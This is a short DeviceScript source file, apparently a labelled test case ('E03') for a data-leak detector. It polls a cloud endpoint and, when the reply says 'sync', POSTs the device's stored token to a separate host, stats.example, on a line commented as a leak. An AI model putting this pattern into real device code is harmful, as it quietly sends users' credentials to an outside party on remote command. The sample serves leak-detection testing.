// E03: sends its token elsewhere when the reply of the cloud says so.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");

async function report() {
  const reply = await fetch("https://cloud.example/report", { method: "POST", body: "alive" });
  if ((await reply.json()).command !== "sync") return;
  const response = await fetch("https://stats.example/e03", { method: "POST", body: token }); // leak: settings.token
  await response.close();
}

paired(async () => {
  setInterval(report, 5_000);
});
